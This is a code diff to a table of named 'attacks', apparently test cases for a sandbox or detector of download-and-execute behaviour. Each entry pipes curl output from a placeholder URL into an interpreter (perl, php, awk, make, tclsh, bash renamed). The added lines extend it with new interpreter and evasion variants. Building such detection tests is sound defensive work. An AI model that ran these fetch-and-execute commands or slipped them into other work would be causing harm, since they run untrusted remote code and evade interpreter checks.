@@ -56,7 +56,13 @@ const Attack kAttacks[] = {
     {"perl interprets", "curl -s @PERL_URL | perl"},
     {"ruby interprets", "curl -s @RUBY_URL | ruby"},
     {"php interprets", "curl -s @PHP_URL | php"},
+    {"php appends", "echo '<?php echo 1;' > @D/own.php; curl -s @PHP_URL | "
+                    "php -d allow_url_include=1 -d auto_append_file=php://stdin @D/own.php"},
     {"node interprets", "curl -s @NODE_URL | node -"},
+    {"awk interprets -f -", "curl -s @AWK_URL | awk -f -"},
+    {"busybox awk interprets", "curl -s @AWK_URL | busybox awk -f /dev/stdin"},
+    {"make interprets -f -", "curl -s @MAKE_URL | make -s -f -"},
+    {"tclsh interprets", "curl -s @TCL_URL | tclsh"},
     {"a bash under another name", "cp /bin/bash @D/worker; curl -s @URL | @D/worker"},
     {"a link to bash under another name", "ln /bin/bash @D/worker; curl -s @URL | @D/worker"},
     {"a static busybox under another name",
